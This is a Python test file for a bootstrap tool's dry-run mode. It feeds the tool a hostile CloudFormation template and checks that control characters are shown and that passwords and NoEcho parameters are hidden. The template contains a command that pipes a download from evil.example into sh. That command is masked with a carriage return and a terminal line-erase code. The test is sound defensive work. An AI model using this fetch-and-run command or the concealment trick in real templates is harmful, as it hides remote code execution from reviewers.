"""Hostile input stays contained (issue 8): a template is not always written by the person who
reads its dry run, and an instance's console log is readable with ec2:GetConsoleOutput. These
run the binary on small hostile inputs, without AWS: the dry run of a local template."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from harness.instance import bootstrap_bin

pytestmark = pytest.mark.skipif(not bootstrap_bin().exists(), reason="binary not built")

HIDDEN_COMMAND = "curl -s https://evil.example/x | sh\r\u001b[2Kecho hello"
SECRETS = ("proxy-pw-secret", "src-pw-secret", "noecho-default-secret", "noecho-param-secret")


def hostile_template() -> dict:
    return {
        "Parameters": {
            "DbPass": {"Type": "String", "NoEcho": True, "Default": "noecho-default-secret"},
            "ApiKey": {"Type": "String", "NoEcho": "true"},
        },
        "Resources": {
            "LT": {"Type": "AWS::EC2::LaunchTemplate", "Properties": {}, "Metadata": {
                "ecs-bootstrap": {"Cluster": "c",
                                  "Proxy": "http://u:proxy-pw-secret@proxy.example:3128"},
                "AWS::CloudFormation::Init": {"config": {
                    "commands": {
                        "01_exec": {"command": ["sh", "-c", HIDDEN_COMMAND]},
                        "02_key": {"command": {"Fn::Sub": "echo ${ApiKey}"}},
                    },
                    "sources": {"/opt/a\r\u001b[2K": "https://u:src-pw-secret@h.example/a.tgz"},
                    "files": {"/etc/x": {"content": {"Fn::Sub": "pw=${DbPass}"}}},
                }}}},
            "ASG": {"Type": "AWS::AutoScaling::AutoScalingGroup", "Properties": {}},
        },
    }


def dry_run(tmp_path: Path, template: dict | str, *args: str, prlimit_as: int | None = None,
            timeout: float = 60):
    path = tmp_path / "template.json"
    path.write_text(template if isinstance(template, str) else json.dumps(template))
    argv = [str(bootstrap_bin()), "--dry-run", "--template", str(path), "--resource", "LT",
            "--signal-resource", "ASG", "--root", str(tmp_path / "root"), *args]
    if prlimit_as:
        # The binary, not this test, pays for a blow-up: capped address space, so a regression
        # fails here instead of taking the machine down.
        argv = ["prlimit", f"--as={prlimit_as}", "--", *argv]
    return subprocess.run(argv, capture_output=True, text=True, timeout=timeout,
                          env={"PATH": "/usr/bin:/bin", "AWS_EC2_METADATA_DISABLED": "true"})


@pytest.mark.parametrize("output", ["text", "json"])
def test_dry_run_shows_control_characters_and_hides_secrets(tmp_path, output):
    res = dry_run(tmp_path, hostile_template(), "--output", output,
                  "--param", "ApiKey=noecho-param-secret")
    assert res.returncode == 0, res.stderr
    out = res.stdout
    assert "\r" not in out and "\u001b" not in out, repr(out)
    assert "evil.example" in out and "echo hello" in out, out
    for s in SECRETS:
        assert s not in out, f"{s} shown in the {output} plan:\n{out}"
    if output == "text":
        assert "mode 0600" in out, out  # ecs.config carries the proxy password
